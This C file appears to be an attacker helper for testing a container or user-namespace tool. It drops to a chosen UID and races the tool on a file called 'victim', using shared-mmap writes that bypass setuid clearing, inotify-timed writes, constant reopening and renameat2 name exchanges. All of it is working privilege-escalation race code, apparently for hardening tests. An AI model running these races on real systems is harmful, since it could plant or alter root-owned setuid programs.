/* A process of a container that wants its own bytes in a file with power; the current folder is the one it may write in.
 *
 * usage: power_attacker ATTACK UID
 *
 * held, mapped: read a letter, do it, answer a letter: "o" opens victim, "s" stores. The others run until SIGTERM.
 * At the end the number of stores, or of exchanges, is printed. A store goes through a mapping: write(2) by others than
 * root clears setuid and capabilities, a mapping does not.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile sig_atomic_t stopped;
static atomic_long strikes;

static void stop(int number) { (void)number; stopped = 1; }

static char *map(int file) {
    char *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    return at == MAP_FAILED ? NULL : at;
}

static void store(char *at) {
    memcpy(at, "EVIL", 4);
    atomic_fetch_add(&strikes, 1);
}

static void store_in(int file) {
    char *at = map(file);
    if (at) {
        store(at);
        munmap(at, 4096);
    }
}

static int is_roots(int file) {
    struct stat seen;
    return fstat(file, &seen) == 0 && seen.st_uid == 0;
}

/* Asked for each step. */
static void on_demand(int mapped) {
    int file = -1;
    char *at = NULL, letter;
    while (read(0, &letter, 1) == 1) {
        if (letter == 'o') {
            file = open("victim", O_RDWR);
            if (file < 0)
                exit(3);
            if (mapped) {
                at = map(file);
                if (!at)
                    exit(4);
                /* The page is there and dirty: what comes later is no fault that the kernel notices. */
                at[0] = at[0];
                close(file);
            }
        } else if (mapped) {
            store(at);
            munmap(at, 4096);
        } else {
            store_in(file);
            close(file);
        }
        if (write(1, &letter, 1) != 1)
            exit(5);
    }
}

/* At every event in the folder: opens what it can; after the n-th event of a file that root owns, stores. */
static void on_events(void) {
    char buffer[1 << 16] __attribute__((aligned(8)));
    int events = inotify_init1(IN_NONBLOCK), file = -1, wait = 0, round = 0;
    struct pollfd ready = {events, POLLIN, 0};
    inotify_add_watch(events, ".", IN_ALL_EVENTS);
    file = open("victim", O_RDWR | O_NOFOLLOW);
    while (!stopped) {
        ssize_t got = poll(&ready, 1, 100) > 0 ? read(events, buffer, sizeof buffer) : 0;
        for (ssize_t at = 0; at < got;) {
            struct inotify_event *event = (void *)(buffer + at);
            at += sizeof *event + event->len;
            if (event->len && (event->mask & (IN_CREATE | IN_MOVED_TO | IN_ATTRIB | IN_MODIFY))) {
                int other = open(event->name, O_RDWR | O_NOFOLLOW);
                if (other >= 0 && strcmp(event->name, "evil")) {
                    if (file >= 0)
                        close(file);
                    file = other;
                    wait = round++ % 24;
                } else if (other >= 0)
                    close(other);
            }
            if (file >= 0 && is_roots(file) && wait-- <= 0) {
                store_in(file);
                close(file);
                file = -1;
            }
        }
    }
}

/* Opens for writing all the time, and stores as soon as the owner is root. */
static void *open_always(void *more) {
    unsigned long turn = (unsigned long)more;
    while (!stopped) {
        int file = open("victim", O_RDWR | O_NOFOLLOW);
        if (file < 0)
            continue;
        /* Now and then later: after it was copied and compared. */
        unsigned long pause = (turn++ % 4) * 200;
        for (int spin = 0; spin < 300 && !stopped; spin++)
            if (is_roots(file)) {
                if (pause)
                    usleep(pause);
                store_in(file);
                break;
            }
        close(file);
    }
    return NULL;
}

/* Exchanges names all the time: of the file and one of its own, and of every temporary one and these. */
static void exchange_always(void) {
    for (unsigned long turn = 0; !stopped; turn++) {
        int own = open("evil", O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW, 0755);
        if (own >= 0) {
            if (write(own, "EVIL program\n", 13) != 13)
                exit(6);
            close(own);
        }
        if (renameat2(AT_FDCWD, "victim", AT_FDCWD, "evil", RENAME_EXCHANGE) == 0)
            atomic_fetch_add(&strikes, 1);
        /* For a while all is as it was: what looks is to be let in. */
        if (turn % 2)
            usleep(turn % 700);
        DIR *folder = opendir(".");
        struct dirent *entry;
        while (folder && (entry = readdir(folder)))
            if (strncmp(entry->d_name, ".usernsplan-", 12) == 0)
                renameat2(AT_FDCWD, entry->d_name, AT_FDCWD, turn & 4 ? "evil" : "victim", RENAME_EXCHANGE);
        if (folder)
            closedir(folder);
    }
}

int main(int count, char **words) {
    if (count != 3)
        return 2;
    uid_t uid = strtoul(words[2], NULL, 10);
    signal(SIGTERM, stop);
    if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
        return 2;
    if (strcmp(words[1], "held") == 0 || strcmp(words[1], "mapped") == 0) {
        on_demand(words[1][0] == 'm');
    } else if (strcmp(words[1], "events") == 0) {
        on_events();
    } else if (strcmp(words[1], "openers") == 0) {
        pthread_t others[2];
        for (unsigned long number = 0; number < 2; number++)
            pthread_create(&others[number], NULL, open_always, (void *)number);
        for (int number = 0; number < 2; number++)
            pthread_join(others[number], NULL);
    } else if (strcmp(words[1], "exchange") == 0) {
        exchange_always();
    } else
        return 2;
    printf("%ld\n", atomic_load(&strikes));
    return 0;
}
